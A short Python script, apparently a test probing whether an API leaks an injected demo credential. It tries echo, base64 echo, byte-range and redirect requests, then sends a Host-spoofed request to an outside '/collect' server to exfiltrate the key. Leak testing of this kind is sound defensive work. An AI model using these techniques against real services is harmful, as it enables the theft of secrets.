# A hostile program: it wants the key, and the API helps it by sending back whatever it is sent.
import base64
import http.client
import re
import ssl
import urllib.error
import urllib.request

found = []


def ask(title, url, headers=None, undo=lambda text: text):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers or {})) as answer:
            said = answer.read().decode()
        if re.search(r"demo-key-\w+", undo(said)):
            found.append(title)
        print(f"{title}: {said.strip()[:90]}")
    except urllib.error.HTTPError as error:
        print(f"{title}: {error.code} {error.read().decode().strip()[:90]}")
    except OSError as error:
        print(f"{title}: {error}")


ask("Have it sent back", f"https://{API}/echo")
ask(
    "Have it sent back in base64",
    f"https://{API}/echo?as=base64",
    undo=lambda text: base64.b64decode(text + "==").decode("latin-1"),
)
ask("Have half of it sent back", f"https://{API}/echo", headers={"Range": "bytes=0-20"})
ask("Have the API send us on to a server of ours", f"https://{API}/redirect")

# Under the API's name, go to another server that the owner allows, and that a friend of ours runs.
host, port = OTHER.split(":")
connection = http.client.HTTPSConnection(host, int(port), context=ssl.create_default_context())
connection.request("GET", "/collect", headers={"Host": API})
answer = connection.getresponse()
print(f"Go elsewhere under its name: {answer.status} {answer.read().decode().strip()[:90]}")
found
